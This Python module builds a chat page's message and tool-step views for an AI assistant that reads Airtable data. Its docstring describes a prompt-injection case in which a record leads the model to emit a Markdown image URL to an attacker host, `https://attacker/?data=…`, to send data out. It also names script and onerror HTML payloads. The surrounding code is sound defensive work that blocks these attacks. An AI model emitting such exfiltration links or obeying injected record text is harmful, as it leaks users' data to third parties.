"""How one chat message and one tool step look (the chat page's parts).

Airtable content is data: Markdown is rendered without raw HTML, so a cell holding
`<script>` or `<img onerror=…>` shows as text. Images in answers are links, not
fetched: a prompt injection in a record could otherwise make the model write
`![](https://attacker/?data=…)` and the browser would send the data out unasked.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import Any

import reflex as rx

from pyairtable_ui.core.settings import get_settings
from pyairtable_ui.pages.chat.state import ChatState

# What react-markdown hands the `img` renderer; its URL is already sanitised
# (`javascript:` and other unsafe schemes become "").
_IMAGE_SRC = rx.Var(_js_expr="props.src").to(str)
_IMAGE_ALT = rx.Var(_js_expr="(props.alt ?? '')").to(str)


def image_host_check(src: rx.Var[str], hosts: Sequence[str]) -> rx.Var[bool]:
    """A browser-side test: `src` is an http(s) URL on one of `hosts` (exact host names).

    Args:
        src: The image URL.
        hosts: Lower-case host names whose images may load.

    Returns:
        A boolean expression, false for relative or unparsable URLs.
    """
    allowed = json.dumps(sorted(hosts))
    return rx.Var(
        _js_expr=(
            f"((s) => {{ try {{ const u = new URL(s); "
            f"return ['http:', 'https:'].includes(u.protocol) && {allowed}.includes(u.hostname); "
            f"}} catch (e) {{ return false; }} }})({src._js_expr})"
        ),
        _var_type=bool,
        _var_data=src._get_all_var_data(),
    )


def answer_image(hosts: Sequence[str]) -> rx.Component:
    """What an answer's Markdown image becomes: a link showing its text and URL.

    Only with `hosts` set, and for an image on one of them, does the link hold the
    image itself. With no hosts (the default) the page has no image element at all.

    Args:
        hosts: ANSWER_IMAGE_HOSTS, the hosts whose images may load.

    Returns:
        The renderer of the `img` element for `rx.markdown`'s component map.
    """
    label = rx.fragment(
        rx.icon(
            "image",
            size=14,
            style={"display": "inline-block", "verticalAlign": "-2px", "marginRight": "4px"},
        ),
        rx.cond(_IMAGE_ALT != "", rx.text.span(_IMAGE_ALT, " "), ""),
        rx.text.span("(", _IMAGE_SRC, ")", class_name="answer-image-url"),
    )
    content = (
        rx.cond(
            image_host_check(_IMAGE_SRC, hosts),
            rx.el.img(src=_IMAGE_SRC, alt=_IMAGE_ALT, max_width="100%"),
            label,
        )
        if hosts
        else label
    )
    return rx.link(
        content,
        href=_IMAGE_SRC,
        is_external=True,
        rel="noopener noreferrer nofollow",
        class_name="answer-image-link",
    )


def answer_markdown(content: rx.Var[str] | str) -> rx.Component:
    """An assistant's answer as Markdown: no raw HTML, images as links (see `answer_image`).

    Args:
        content: The Markdown text.

    Returns:
        The rendered answer.
    """
    hosts = get_settings().answer_image_hosts
    return rx.markdown(
        content, use_raw=False, component_map={"img": lambda *_, **__: answer_image(hosts)}
    )


_STATUS_COLOR = {
    "running": "blue",
    "complete": "green",
    "failed": "red",
    "stopped": "orange",
}


def _status_badge(status: rx.Var[str], proposed: rx.Var[bool]) -> rx.Component:
    """A write tool's finished step says "proposed": nothing is written until the review."""
    return rx.cond(
        proposed & (status == "complete"),
        rx.badge("proposed", color_scheme="orange"),
        _run_badge(status),
    )


def _run_badge(status: rx.Var[str]) -> rx.Component:
    return rx.match(
        status,
        ("running", rx.badge(rx.spinner(size="1"), "running", color_scheme="blue")),
        ("complete", rx.badge("done", color_scheme="green")),
        ("failed", rx.badge("failed", color_scheme="red")),
        ("stopped", rx.badge("stopped", color_scheme="orange")),
        rx.badge(status),
    )


def message_view(
    message: Any, *, is_answer: rx.Var[bool], is_last_question: rx.Var[bool]
) -> rx.Component:
    """A user question, an assistant answer (Markdown, no raw HTML) or an error.

    Args:
        message: The row (a `ChatItem` var).
        is_answer: Whether the row is the answer to the last question
            (`ChatState.answer_index`): only that one offers Regenerate, or Retry
            when it is an error.
        is_last_question: Whether the row is the last question
            (`ChatState.question_index`): only that one can be edited and resent.
    """
    return rx.match(
        message["role"],
        (
            "user",
            rx.flex(
                rx.cond(
                    is_last_question & ~ChatState.running & ~ChatState.editing,
                    rx.icon_button(
                        rx.icon("pencil", size=14),
                        variant="ghost",
                        color_scheme="gray",
                        size="1",
                        aria_label="Edit question",
                        title="Change it and ask again (replaces this question and its answer)",
                        on_click=ChatState.edit_last_question,
                    ),
                ),
                rx.box(
                    rx.text(message["content"], white_space="pre-wrap", size="3"),
                    background_color=rx.color("accent", 3),
                    padding="10px 14px",
                    border_radius="12px",
                    max_width="85%",
                    class_name="user-message",
                ),
                justify="end",
                align="center",
                gap="6px",
                width="100%",
                margin_y="8px",
            ),
        ),
        (
            "error",
            rx.box(
                rx.callout(
                    message["content"],
                    icon="triangle-alert",
                    color_scheme="red",
                    role="alert",
                    class_name="error-message",
                ),
                rx.cond(
                    is_answer & ~ChatState.running,
                    rx.button(
                        rx.icon("rotate-ccw", size=14),
                        "Retry",
                        variant="soft",
                        size="1",
                        margin_top="6px",
                        on_click=ChatState.retry,
                    ),
                ),
                margin_y="8px",
                width="100%",
            ),
        ),
        rx.box(
            answer_markdown(message["content"]),
            rx.hstack(
                rx.cond(
                    message["status"] == "stopped",
                    rx.badge("stopped", color_scheme="orange", size="1"),
                ),
                rx.text(message["meta"], size="1", color_scheme="gray"),
                rx.icon_button(
                    rx.icon("copy", size=12),
                    variant="ghost",
                    size="1",
                    aria_label="Copy message",
                    on_click=[
                        rx.set_clipboard(message["content"]),
                        rx.toast("Copied", duration=1500),
                    ],
                ),
                rx.cond(
                    is_answer & ~ChatState.running,
                    rx.icon_button(
                        rx.icon("refresh-cw", size=12),
                        variant="ghost",
                        size="1",
                        aria_label="Regenerate",
                        on_click=ChatState.regenerate,
                    ),
                ),
                spacing="2",
                align="center",
            ),
            class_name="assistant-message",
            margin_y="8px",
            width="100%",
            overflow_x="auto",
        ),
    )


def step_chart(step: Any) -> rx.Component:
    """A grouped aggregate's bars, with a tab to the same groups as a plain table.

    The tabs switch in the browser (no event handler, nothing asked of the server).
    Group names come from the base: recharts and the table cells put them in the
    page as text nodes, never as HTML.
    """
    rows = step["chart"]
    return rx.cond(
        rows.length() > 0,
        rx.tabs.root(
            rx.hstack(
                rx.text(step["chart_title"], size="1", color_scheme="gray"),
                rx.tabs.list(
                    rx.tabs.trigger("Chart", value="chart"),
                    rx.tabs.trigger("Table", value="table"),
                    size="1",
                ),
                align="center",
                justify="between",
                wrap="wrap",
            ),
            rx.tabs.content(
                rx.recharts.bar_chart(
                    rx.recharts.cartesian_grid(stroke_dasharray="3 3"),
                    rx.recharts.bar(
                        data_key="value", fill="var(--accent-9)", is_animation_active=False
                    ),
                    rx.recharts.x_axis(data_key="label"),
                    rx.recharts.y_axis(),
                    rx.recharts.graphing_tooltip(),
                    data=rows,
                    width="100%",
                    height=220,
                ),
                value="chart",
            ),
            rx.tabs.content(
                rx.table.root(
                    rx.table.header(
                        rx.table.row(
                            rx.table.column_header_cell("Group"),
                            rx.table.column_header_cell("Value"),
                        )
                    ),
                    rx.table.body(
                        rx.foreach(
                            rows,
                            lambda row: rx.table.row(
                                rx.table.cell(row["label"]),
                                rx.table.cell(row["value"]),
                            ),
                        )
                    ),
                    size="1",
                ),
                value="table",
            ),
            default_value="chart",
            class_name="step-chart",
            width="100%",
            max_width="640px",
            margin_y="4px",
        ),
    )


def step_view(step: Any) -> rx.Component:
    """A tool call as a live step (name, arguments, status, duration), and its chart."""
    return rx.fragment(_step_line(step), step_chart(step))


def _step_line(step: Any) -> rx.Component:
    return rx.hstack(
        rx.icon("wrench", size=14, color=rx.color("gray", 9)),
        rx.text(step["tool_name"], size="2", weight="medium", font_family="monospace"),
        _status_badge(step["status"], step["action_id"] != 0),
        rx.text(step["duration"], size="1", color_scheme="gray"),
        rx.tooltip(
            rx.text(
                step["arguments"],
                size="1",
                color_scheme="gray",
                trim="end",
                max_width="40ch",
                font_family="monospace",
            ),
            content=step["summary"],
        ),
        class_name="tool-step",
        data_status=step["status"],
        spacing="2",
        align="center",
        padding="4px 10px",
        margin_y="2px",
        border_radius="8px",
        background_color=rx.color("gray", 2),
        width="fit-content",
        max_width="100%",
        wrap="wrap",
    )
